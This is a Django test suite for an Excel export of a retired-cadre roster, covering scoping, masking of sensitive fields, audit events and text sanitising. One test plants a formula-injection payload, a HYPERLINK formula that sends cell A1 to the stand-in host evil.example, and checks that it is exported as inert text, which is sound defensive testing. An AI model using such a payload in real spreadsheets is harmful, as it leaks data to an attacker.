from __future__ import annotations

from datetime import date
from io import BytesIO
from typing import Any
from urllib.parse import quote

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from jiujin.audit.models import AuditAction, AuditEvent
from jiujin.cadres.models import Tag, WorkUnit
from jiujin.cadres.tests.factories import CadreFactory
from jiujin.roster.exporting import EXPORT_COLUMNS

pytestmark = pytest.mark.django_db
EXPORT = reverse("roster:export")
HEADERS = [h for h, _, _ in EXPORT_COLUMNS]


@pytest.fixture(autouse=True)
def _today() -> Any:
    with time_machine.travel("2026-11-29 10:00 +0800", tick=False):
        yield


def sheet(response: Any) -> Any:
    assert response.status_code == 200
    return load_workbook(BytesIO(b"".join(response.streaming_content))).active


def rows(ws: Any) -> list[dict[str, Any]]:
    return [dict(zip(HEADERS, r, strict=False)) for r in ws.iter_rows(min_row=3, values_only=True)]


def test_it_exports_a_taizhang(client_for: Any, cast: Any, cadre_a: Any) -> None:
    cadre_a.birth_date = date(1938, 5, 17)
    cadre_a.retirement_date = date(1998, 6, 1)
    cadre_a.work_unit = WorkUnit.objects.create(name="黄州区财政局")
    cadre_a.save()
    cadre_a.tags.add(Tag.objects.create(name="书法", org_unit=cadre_a.community.parent.parent))
    response = client_for(cast.community_a).get(EXPORT)
    ws = sheet(response)

    assert ws["A1"].value == "社区A老干部花名册（导出于2026年11月29日）"
    assert [c.value for c in ws[2]] == HEADERS
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["D"].width > 18
    [row] = rows(ws)
    assert row["序号"] == 1 and row["姓名"] == "张德明" and row["所在社区"] == "社区A"
    assert row["身份证号码"] == cadre_a.id_number
    id_cell = ws.cell(row=3, column=HEADERS.index("身份证号码") + 1)
    assert (id_cell.data_type, id_cell.number_format) == ("s", "@")
    assert row["出生年月"] == "1938年5月17日" and row["离退休时间"] == "1998年6月1日"
    assert row["年龄"] == 88
    assert row["原工作单位"] == "黄州区财政局" and row["爱好特长"] == "书法"
    assert row["手机"] == "13871234567"
    assert row["联系人"] == cast.community_a.display_name

    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=UTF-8''{quote('老干部台账-20261129.xlsx')}" in disposition
    events = AuditEvent.objects.filter(action="export")
    assert [(e.cadre_id, e.user_id, e.detail) for e in events] == [
        (cadre_a.pk, cast.community_a.pk, "导出台账 1 人")
    ]


def test_it_respects_the_list_filters(client_for: Any, cast: Any, tree: Any) -> None:
    CadreFactory(name="离休甲", category="lixiu", community=tree.community_a)
    CadreFactory(name="退休乙", category="tuixiu", community=tree.community_a)
    CadreFactory(name="迁出丙", category="lixiu", community=tree.community_a, status="moved_out")
    ws = sheet(client_for(cast.community_a).get(EXPORT, {"category": "lixiu"}))
    assert [r["姓名"] for r in rows(ws)] == ["离休甲"]
    ws = sheet(client_for(cast.street).get(EXPORT, {"unit": tree.community_b.code}))
    assert rows(ws) == []


@pytest.mark.parametrize("who", ["community_b", "community_z"])
def test_it_exports_nothing_out_of_scope(client_for: Any, cast: Any, cadre_a: Any, who: str) -> None:
    ws = sheet(client_for(getattr(cast, who)).get(EXPORT))
    assert rows(ws) == []
    assert not AuditEvent.objects.filter(cadre_id=cadre_a.pk).exists()


def test_it_forbids_volunteers(client_for: Any, cast: Any, cadre_a: Any) -> None:
    assert client_for(cast.volunteer).get(EXPORT).status_code == 404
    assert not AuditEvent.objects.exclude(action=AuditAction.DENIED).exists()


def test_it_masks_for_roles_without_view_sensitive(client_for: Any, cast: Any, cadre_a: Any) -> None:
    cadre_a.phone_landline = "0713-8654321"
    cadre_a.save()
    for user in (cast.street, cast.city):
        [row] = rows(sheet(client_for(user).get(EXPORT)))
        assert row["身份证号码"] == cadre_a.id_number[:4] + "*" * 10 + cadre_a.id_number[-4:]
        assert row["手机"] == "138****4567"
        assert row["座机"] == "0713-*****21"


def test_it_keeps_the_query_count_flat(
    client_for: Any, cast: Any, tree: Any, django_assert_max_num_queries: Any
) -> None:
    client = client_for(cast.community_a)
    tag = Tag.objects.create(name="象棋", org_unit=tree.district)
    for total in (3, 30):
        for cadre in CadreFactory.create_batch(
            total - Tag.objects.get().cadres.count(), community=tree.community_a
        ):
            cadre.tags.add(tag)
        with django_assert_max_num_queries(12):
            assert len(rows(sheet(client.get(EXPORT)))) == total


def test_it_exports_formula_like_text_as_text(client_for: Any, cast: Any, cadre_a: Any) -> None:
    cadre_a.address = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    cadre_a.habits = "@SUM(1+1)"
    cadre_a.save()
    ws = sheet(client_for(cast.community_a).get(EXPORT))
    for header, expected in (("家庭住址", cadre_a.address), ("生活习惯", "@SUM(1+1)")):
        cell = ws.cell(row=3, column=HEADERS.index(header) + 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)


def test_it_exports_old_data_holding_control_characters(client_for: Any, cast: Any, cadre_a: Any) -> None:
    cadre_a.address = "东湖路\x011号\x0b"
    cadre_a.save()
    [row] = rows(sheet(client_for(cast.community_a).get(EXPORT)))
    assert row["家庭住址"] == "东湖路1号"
